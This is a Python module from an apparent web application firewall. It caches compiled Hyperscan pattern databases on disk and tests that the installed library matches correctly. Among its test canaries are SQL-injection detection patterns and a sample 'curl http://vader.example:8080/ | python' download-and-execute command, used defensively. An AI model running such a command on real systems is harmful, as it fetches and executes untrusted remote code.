"""Hyperscan databases: compiled once, kept on disk by content."""

from __future__ import annotations

import contextlib
import hashlib
import os
import time
from collections.abc import Sequence
from functools import cache
from pathlib import Path

import hyperscan
import msgspec

from bascule.state.files import write_whole
from bascule.waf.matcher.patterns import Expression, Known
from bascule.waf.seclang.operators.linear import LinearPattern
from bascule.waf.seclang.operators.translated import TRANSLATED

_FORMAT = b"bascule-hs-5\n"
_ANSWERS = b"bascule-answers-15\n"
DAY = 86400.0
UNUSED = 30 * DAY
"""Seconds after which what nobody loaded is removed: each change of rules or of Bascule leaves its old ones behind."""


_CANARIES = (
    (rb"@.+=\s*\(\s*select", b"@" + b"a" * 80 + b"=(select"),
    (rb"curl.*\|\s*python", b"curl http://vader.example:8080/ 2>&1 | python"),
    (rb"(?i)union.+select\s*[(]", b"union " + b"x" * 70 + b" SELECT ("),
)
"""Patterns and texts they match, which Vectorscan 5.4.12 loses (VectorCamp/vectorscan#382)."""


@cache
def is_sound() -> bool:
    """Whether the Hyperscan that is installed finds what it must; one that does not cannot be a prefilter."""
    flags = hyperscan.HS_FLAG_DOTALL | hyperscan.HS_FLAG_MULTILINE | hyperscan.HS_FLAG_SINGLEMATCH
    for pattern, text in _CANARIES:
        database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
        database.compile(expressions=[pattern], ids=[0], elements=1, flags=[flags])
        found: list[int] = []
        database.scan(text, match_event_handler=lambda i, start, end, flags, hits: hits.append(i), context=found)
        if not found:
            return False
    return True


def open_database(expressions: Sequence[Expression], cache_dir: Path | None) -> hyperscan.Database | None:
    """Return a block-mode database of `expressions` (ids are their positions); None if there are none.

    A cache file that is missing, damaged or of another Hyperscan version is replaced.
    """
    if not expressions:
        return None
    path = cache_dir / f"{_key(expressions)}.hsdb" if cache_dir is not None else None
    if path is not None:
        cached = _load(path)
        if cached is not None:
            return cached
    database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
    database.compile(
        expressions=[expression.text for expression in expressions],
        ids=list(range(len(expressions))),
        elements=len(expressions),
        flags=[expression.flags for expression in expressions],
    )
    if path is not None:
        _store(path, hyperscan.dumpb(database))
    return database


def load_patterns(cache_dir: Path | None) -> Known:
    """Return what was found for single patterns, as kept by `store_patterns`; empty if there is nothing."""
    if cache_dir is None:
        return Known()
    try:
        path = cache_dir / _patterns_name()
        content = path.read_bytes()
        _mark_used(path)
        known = msgspec.json.decode(content[32:], type=Known)
    except (OSError, msgspec.DecodeError):
        return Known()
    return known if content[:32] == hashlib.sha256(_ANSWERS + content[32:]).digest() else Known()


def store_patterns(cache_dir: Path | None, known: Known) -> None:
    """Keep what was found for single patterns, for the next start."""
    if cache_dir is not None:
        body = msgspec.json.encode(known)
        _write(cache_dir / _patterns_name(), hashlib.sha256(_ANSWERS + body).digest() + body)


def recall_translations(known: Known) -> None:
    """Spare the rules' patterns their translation, where it is known."""
    for pattern, (text, shifted, has_line_start) in known.linear.items():
        linear = LinearPattern(text.encode("ascii"), shifted, has_line_start)
        TRANSLATED.setdefault(pattern.encode("latin-1"), linear)


def keep_translations(known: Known) -> None:
    """Note the translations made so far in what is to be stored."""
    for pattern, linear in TRANSLATED.items():
        text = linear.text.decode("ascii")
        known.linear.setdefault(pattern.decode("latin-1"), (text, linear.shifted, linear.has_line_start))


def _patterns_name() -> str:
    return f"patterns-{hashlib.sha256(_ANSWERS + hyperscan.__version__.encode()).hexdigest()[:16]}.json"


def _key(expressions: Sequence[Expression]) -> str:
    digest = hashlib.sha256(_FORMAT + hyperscan.__version__.encode())
    for text, flags, *_ in expressions:
        digest.update(b"%d:%d:" % (flags, len(text)))
        digest.update(text)
    return digest.hexdigest()


def _load(path: Path) -> hyperscan.Database | None:
    try:
        content = path.read_bytes()
    except OSError:
        return None
    check, body = content[:32], content[32:]
    if hashlib.sha256(_FORMAT + body).digest() != check:
        return None
    try:
        database = hyperscan.loadb(body, hyperscan.HS_MODE_BLOCK)
        database.scratch = hyperscan.Scratch(database)
    except hyperscan.error:
        return None
    _mark_used(path)
    return database


def _mark_used(path: Path) -> None:
    """Let a file be as young as its last use, to a day."""
    with contextlib.suppress(OSError):
        if path.stat().st_mtime < time.time() - DAY:
            os.utime(path)


def _forget_unused(folder: Path) -> None:
    """Remove what nobody has used for long."""
    for pattern in ("*.hsdb", "patterns-*.json"):
        for path in folder.glob(pattern):
            with contextlib.suppress(OSError):
                if path.stat().st_mtime < time.time() - UNUSED:
                    path.unlink()


def _store(path: Path, body: bytes) -> None:
    _write(path, hashlib.sha256(_FORMAT + body).digest() + body)


def _write(path: Path, content: bytes) -> None:
    """Write a file of the cache. That it cannot be written is no error."""
    with contextlib.suppress(OSError):
        path.parent.mkdir(parents=True, exist_ok=True)
        write_whole(path, content)
        _forget_unused(path.parent)
